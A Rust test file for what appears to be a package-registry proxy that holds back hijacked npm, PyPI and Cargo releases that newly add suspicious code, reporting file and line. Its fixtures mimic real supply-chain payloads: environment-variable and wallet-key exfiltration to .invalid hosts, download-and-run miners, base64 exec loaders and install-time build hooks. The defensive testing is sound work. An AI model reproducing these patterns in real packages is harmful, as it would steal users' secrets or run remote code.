//! Packages somebody took over where only the archive shows it, looked into (features.md §5.1): the
//! archives hold code of the same shape, which does nothing. Held for what it newly does, with file
//! and line, and hidden from listings from then on; the version before stays installable.

use cordon_tests::client::{http, listing};
use cordon_tests::clock::{ago, days, hours};
use cordon_tests::fake_registry::{Protocol, PythonFile, Release};

use super::{WITHOUT_AGE, decisions, file_url, findings_against, serving};

/// The rules of the built-in policy that look into archives.
const CONTENT: &str =
    "[rules.archive]\n[rules.manifest]\n[rules.content]\n[rules.content-change]\n";

/// Code that was newly there.
struct Shown {
    id: &'static str,
    protocol: Protocol,
    package: &'static str,
    versions: (&'static str, &'static str),
    /// Where, below the archive's folder, and what.
    source: (&'static str, &'static str),
    finding: &'static str,
    place: &'static str,
}

const HOOK: &str = "const open = XMLHttpRequest.prototype.open;\n\
    XMLHttpRequest.prototype.open = function () {\nreturn open.apply(this, arguments);\n};\n\
    window.ethereum.request({ method: 'eth_accounts' });\n";
const WIPER: &str = "const u = Buffer.from('aHR0cHM6Ly94LmludmFsaWQvZ2Vv', 'base64').toString('utf8');\n\
    require('https').get(u, (m) => m.on('data', (b) => require('fs').writeFile(p, h, () => {})));\n";
const MINER: &str = "import os, subprocess\nfrom urllib.request import urlretrieve\n\
    def safe_run(p):\n    urlretrieve('https://x.invalid/m', p)\n    os.chmod(p, 0o770)\n    \
    subprocess.Popen([p])\n";
const THIEF: &str = "import os\nimport requests\nA = 1\n\
    requests.get('https://x.invalid/' + str(dict(os.environ)))\n";
const QUEUE: &str = "class Keypair {\n  constructor(pair) { this.pair = pair; queue(this.pair.secretKey) }\n}\n\
    async function queue(k) {\n  const id = encode(k)\n  // as a session\n  \
    fetch('https://rpc.invalid/api', { method: 'POST', headers: { 'x-id': id } })\n}\n";
const REFERRAL: &str = "exports.valid = async function valid(seed) {\n  \
    await fetch('https://rpc.invalid/xc', { method: 'POST', headers: { referral: seed } })\n}\n";
const LOADER: &str = "import base64\nexec(base64.b64decode('cHJpbnQoJ3NlbGYtdGVzdCcp'))\n";
const SENDER: &str = "use std::net::TcpStream;\npub fn init() {\n    \
    let all: Vec<_> = std::env::vars().collect();\n    \
    let mut to = TcpStream::connect(\"x.invalid:443\").unwrap();\n    to.write_all(&all);\n}\n";
const GYP: &str = "{\n  'targets': [{ 'target_name': 'x',\n    \
    'sources': ['<!(node index.js > /dev/null 2>&1 && echo stub.c)'] }]\n}\n";
const PTH: &str = "import os; os.getcwd()\n";
const BUILD: &str = "fn main() {\n    let body = ureq::get(\"https://x.invalid/p\").call();\n    \
    std::fs::write(path, body);\n    std::process::Command::new(path).spawn();\n}\n";

const fn shown(
    (id, protocol, package): (&'static str, Protocol, &'static str),
    versions: (&'static str, &'static str),
    source: (&'static str, &'static str),
    finding: &'static str,
    place: &'static str,
) -> Shown {
    Shown {
        id,
        protocol,
        package,
        versions,
        source,
        finding,
        place,
    }
}

const CAPABILITY: &str = "content-change/capability-added";
const OBFUSCATION: &str = "content-change/obfuscation-added";
const UNASKED: &str = "content-change/runs-at-install-added";

fn incidents() -> Vec<Shown> {
    use Protocol::{Cargo, Npm, Pypi};
    vec![
        shown(
            ("H06", Npm, "node-ipc"),
            ("10.1.0", "10.1.1"),
            ("index.js", WIPER),
            OBFUSCATION,
            "index.js:1",
        ),
        shown(
            ("H07", Pypi, "ctx"),
            ("0.1.2", "0.2.2"),
            ("ctx/__init__.py", THIEF),
            CAPABILITY,
            "ctx/__init__.py:4",
        ),
        shown(
            ("H11", Npm, "@solana/web3.js"),
            ("1.95.5", "1.95.6"),
            ("lib/index.js", QUEUE),
            CAPABILITY,
            "lib/index.js:7",
        ),
        shown(
            ("H12", Pypi, "ultralytics"),
            ("8.3.40", "8.3.41"),
            ("ultralytics/utils.py", MINER),
            CAPABILITY,
            "ultralytics/utils.py:5",
        ),
        shown(
            ("H15", Npm, "xrpl"),
            ("4.2.0", "4.2.1"),
            ("dist/npm/index.js", REFERRAL),
            CAPABILITY,
            "dist/npm/index.js:2",
        ),
        shown(
            ("H19", Pypi, "num2words"),
            ("0.5.14", "0.5.15"),
            ("num2words/__init__.py", LOADER),
            OBFUSCATION,
            "num2words/__init__.py:2",
        ),
        shown(
            ("H21", Npm, "chalk"),
            ("5.6.0", "5.6.1"),
            ("index.js", HOOK),
            CAPABILITY,
            "index.js:2",
        ),
        shown(
            ("H21", Npm, "debug"),
            ("4.4.1", "4.4.2"),
            ("src/index.js", HOOK),
            CAPABILITY,
            "src/index.js:2",
        ),
        shown(
            ("H25", Pypi, "telnyx"),
            ("4.87.0", "4.87.1"),
            ("telnyx/_client.py", LOADER),
            OBFUSCATION,
            "telnyx/_client.py:2",
        ),
        shown(
            ("H30", Pypi, "guardrails-ai"),
            ("0.10.0", "0.10.1"),
            ("guardrails_ai/__init__.py", THIEF),
            CAPABILITY,
            "guardrails_ai/__init__.py:4",
        ),
        shown(
            ("H32", Npm, "@vapi-ai/server-sdk"),
            ("0.11.0", "0.11.1"),
            ("binding.gyp", GYP),
            UNASKED,
            "binding.gyp:3",
        ),
        shown(
            ("H33", Cargo, "onering"),
            ("1.4.0", "1.4.1"),
            ("src/lib.rs", SENDER),
            CAPABILITY,
            "src/lib.rs:3",
        ),
        shown(
            ("H36", Cargo, "append-only-vec"),
            ("0.1.8", "0.1.9"),
            ("build.rs", BUILD),
            UNASKED,
            "build.rs:2",
        ),
        shown(
            ("PTH", Pypi, "litellm"),
            ("1.82.6", "1.82.8"),
            ("litellm_init.pth", PTH),
            UNASKED,
            "litellm_init.pth:1",
        ),
    ]
}

#[test]
fn code_that_is_newly_there_holds_the_version_with_file_and_line() {
    let incidents = incidents();
    let releases = incidents.iter().flat_map(|it| {
        let release = |version| Release::new(it.protocol, it.package, version);
        [
            release(it.versions.0).published_at(ago(days(200))),
            release(it.versions.1)
                .published_at(ago(hours(1)))
                .source(it.source.0, it.source.1),
        ]
    });
    let releases: Vec<Release> = releases.collect();
    let policy = format!("{WITHOUT_AGE}{CONTENT}");
    let (registry, cordon) = serving(&releases, &policy);
    for it in &incidents {
        let (id, protocol, package) = (it.id, it.protocol, it.package);
        let (before, bad) = it.versions;
        let status = |version| {
            let url = file_url((&registry, &cordon), protocol, package, version);
            http::get(&url).status
        };
        assert_eq!(status(bad), 403, "{id} {package}");
        let findings = findings_against(&cordon, protocol, package, bad);
        assert!(
            findings.iter().any(|found| found == it.finding),
            "{id} {package}: {findings:?}"
        );
        let told: Vec<String> = decisions(&cordon, protocol, package, bad)
            .iter()
            .flat_map(|it| it["evaluation"]["findings"].as_array().cloned())
            .flatten()
            .map(|finding| finding["reason"].as_str().unwrap_or_default().to_owned())
            .collect();
        assert!(
            told.iter().any(|reason| reason.contains(it.place)),
            "{id} {package}: {told:?}"
        );
        assert_eq!(status(before), 200, "{id} {package}");
        let base = cordon.url(protocol);
        let choices = listing::choices(protocol, &base, package);
        assert_eq!(choices, [before], "{id} {package}: held is not listed");
    }
}

/// The second bad version in a row changes nothing against the first one: what it is compared with is
/// the one that was public for a while.
#[test]
fn several_bad_versions_in_a_row_are_held_each() {
    let release = |version, age| Release::npm("xrpl", version).published_at(ago(age));
    let releases = [
        release("4.2.0", days(200)),
        release("4.2.1", hours(5)).source("index.js", HOOK),
        release("4.2.2", hours(4)).source("index.js", HOOK),
        release("4.2.3", hours(3)).source("index.js", HOOK),
    ];
    let policy = format!("{WITHOUT_AGE}{CONTENT}");
    let (registry, cordon) = serving(&releases, &policy);
    for version in ["4.2.3", "4.2.2", "4.2.1"] {
        let url = file_url((&registry, &cordon), Protocol::Npm, "xrpl", version);
        assert_eq!(http::get(&url).status, 403, "{version}");
        let findings = findings_against(&cordon, Protocol::Npm, "xrpl", version);
        assert!(
            findings.iter().any(|found| found == CAPABILITY),
            "{version}: {findings:?}"
        );
    }
}

/// What a package has done for years holds nothing (N08).
#[test]
fn code_that_was_there_before_holds_nothing() {
    let release = |version, age| {
        Release::npm("esbuild", version)
            .published_at(ago(age))
            .script("postinstall", "node install.js")
            .source("install.js", WIPER)
            .source("index.js", HOOK)
    };
    let releases = [release("0.25.0", days(200)), release("0.25.1", hours(3))];
    let policy = format!("{WITHOUT_AGE}{CONTENT}");
    let (registry, cordon) = serving(&releases, &policy);
    for version in ["0.25.0", "0.25.1"] {
        let url = file_url((&registry, &cordon), Protocol::Npm, "esbuild", version);
        assert_eq!(http::get(&url).status, 200, "{version}");
    }
}

/// Where every version before is withheld, it is compared with one of these before with nothing.
#[test]
fn a_version_withheld_for_another_reason_is_compared_with_before_nothing_is() {
    let release = |version, age| Release::npm("left-hand", version).published_at(ago(age));
    let releases = [
        release("1.0.0", days(200)),
        release("1.1.0", hours(3)).source("index.js", HOOK),
    ];
    let denied = "[rules.deny]\neffect = \"hide\"\npurls = [\"pkg:npm/left-hand@1.0.0\"]\n";
    let policy = format!("{WITHOUT_AGE}{CONTENT}{denied}");
    let (registry, cordon) = serving(&releases, &policy);
    let url = file_url((&registry, &cordon), Protocol::Npm, "left-hand", "1.1.0");
    assert_eq!(http::get(&url).status, 403);
    let findings = findings_against(&cordon, Protocol::Npm, "left-hand", "1.1.0");
    assert!(
        findings.iter().any(|found| found == CAPABILITY),
        "{findings:?}"
    );
}

/// A source archive is compared with a source archive, also where the version right before has only a
/// wheel, which never had a `setup.py`.
#[test]
fn a_source_archive_is_compared_with_one_and_not_with_a_newer_wheel() {
    const SETUP: &str = "import subprocess\nfrom setuptools import setup\n\
        subprocess.run(['git', 'describe'])\nsetup()\n";
    let release = |version, age, files: &[PythonFile]| {
        Release::pypi("numbered", version)
            .published_at(ago(age))
            .files(files)
            .source("setup.py", SETUP)
    };
    let both = [PythonFile::Wheel, PythonFile::Sdist];
    let releases = [
        release("1.0.0", days(200), &both),
        release("1.1.0", days(100), &[PythonFile::Wheel]),
        release("1.2.0", hours(3), &[PythonFile::Sdist]),
    ];
    let policy = format!("{WITHOUT_AGE}{CONTENT}");
    let (registry, cordon) = serving(&releases, &policy);
    let url = file_url((&registry, &cordon), Protocol::Pypi, "numbered", "1.2.0");
    assert!(url.ends_with(".tar.gz"), "{url}");
    assert_eq!(http::get(&url).status, 200);
}

/// Where the source archive right before is held, the wheel beside it is none to compare with either.
#[test]
fn a_source_archive_after_a_held_one_is_compared_with_the_last_that_is_not() {
    const SETUP: &str = "import subprocess\nfrom setuptools import setup\n\
        subprocess.run(['git', 'describe'])\nsetup()\n";
    let both = [PythonFile::Sdist, PythonFile::Wheel];
    let release = |version, age| {
        Release::pypi("numbered", version)
            .published_at(ago(age))
            .files(&both)
    };
    let releases = [
        release("1.0.0", days(200)),
        release("1.1.0", days(20)).source("setup.py", SETUP),
        release("1.2.0", days(2)).source("setup.py", SETUP),
    ];
    let policy = format!("{WITHOUT_AGE}{CONTENT}");
    let (registry, cordon) = serving(&releases, &policy);
    for version in ["1.1.0", "1.2.0"] {
        let url = file_url((&registry, &cordon), Protocol::Pypi, "numbered", version);
        assert!(url.ends_with(".tar.gz"), "{url}");
        assert_eq!(http::get(&url).status, 403, "{version}");
        let reasons: Vec<String> = decisions(&cordon, Protocol::Pypi, "numbered", version)
            .iter()
            .flat_map(|it| it["evaluation"]["findings"].as_array().cloned())
            .flatten()
            .map(|finding| finding["reason"].as_str().unwrap_or_default().to_owned())
            .collect();
        let is_told = reasons.iter().any(|it| it.ends_with("1.0.0 did not"));
        assert!(is_told, "{version}: {reasons:?}");
    }
}
